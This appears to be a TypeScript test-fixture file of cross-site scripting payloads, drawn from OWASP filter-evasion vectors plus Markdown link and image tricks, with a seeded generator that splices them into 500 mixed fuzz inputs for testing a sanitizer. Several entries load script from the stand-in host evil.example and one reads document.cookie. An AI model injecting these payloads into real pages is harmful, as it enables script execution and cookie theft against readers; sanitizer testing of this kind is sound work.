/** Texts of an attacker who wants a script to run where others read them. */

/** From the OWASP cheat sheet on filter evasion, with some that are particular to Markdown. */
export const SCRIPT_VECTORS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<IMG SRC="javascript:alert(1);">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<IMG SRC=`javascript:alert("1")`>',
  '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
  '<IMG SRC=# onmouseover="alert(1)">',
  '<IMG SRC="jav\tascript:alert(1);">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>',
  '<SCRIPT/XSS SRC="https://evil.example/xss.js"></SCRIPT>',
  '<<SCRIPT>alert(1);//<</SCRIPT>',
  '<SCRIPT SRC=https://evil.example/xss.js?< B >',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<IFRAME SRC=# onmouseover="alert(1)"></IFRAME>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<BODY ONLOAD=alert(1)>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(1);">',
  '<LINK REL="stylesheet" HREF="javascript:alert(1);">',
  '<STYLE>@import"https://evil.example/xss.css";</STYLE>',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/x.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=" AllowScriptAccess="always"></EMBED>',
  '<a href="javascript:alert(1)">x</a>',
  '<a onmouseover=alert(document.cookie)>x</a>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<form action="javascript:alert(1)"><button>x</button></form>',
  '<details open ontoggle=alert(1)>x</details>',
  '<math><a xlink:href="javascript:alert(1)">x</a></math>',
  '<base href="javascript:alert(1);//">',
  '<template><script>alert(1)</script></template>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java&#x0A;script:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](  javascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/x.png"onerror="alert(1))',
  '![x](x" onerror="alert(1))',
  '[x](https://ok.example "onmouseover=alert(1)")',
  '[x](https://ok.example" onmouseover="alert(1))',
  '```html\n<script>alert(1)</script>\n```',
  '`<script>alert(1)</script>`',
  '# <script>alert(1)</script>',
  '- <img src=x onerror=alert(1)>',
  '> <svg onload=alert(1)>',
  '[<script>alert(1)</script>](https://ok.example)',
  '<a href="https://ok.example" target="_top" onclick="alert(1)">x</a>',
]

const MIXTURES = 500
const JOINTS = ['', '\n', '\n\n', ' ', '**', '`', '](', '"', '<', '\u0000', '&#x09;']

/**
 * Mixtures of two to four of them, cut at their ends and joined by characters that open or close markup; the same in
 * each run.
 */
export const MIXED_VECTORS: readonly string[] = mixtures()

function mixtures(): string[] {
  let seed = 7
  const next = (below: number) => {
    seed = (seed * 1_103_515_245 + 12_345) % 2_147_483_648
    return seed % below
  }
  const part = () => {
    const vector = SCRIPT_VECTORS[next(SCRIPT_VECTORS.length)] ?? ''
    const cut = vector.slice(next(4), vector.length - next(4))
    return cut + (JOINTS[next(JOINTS.length)] ?? '')
  }
  return Array.from({ length: MIXTURES }, () =>
    Array.from({ length: 2 + next(3) }, part).join(''),
  )
}
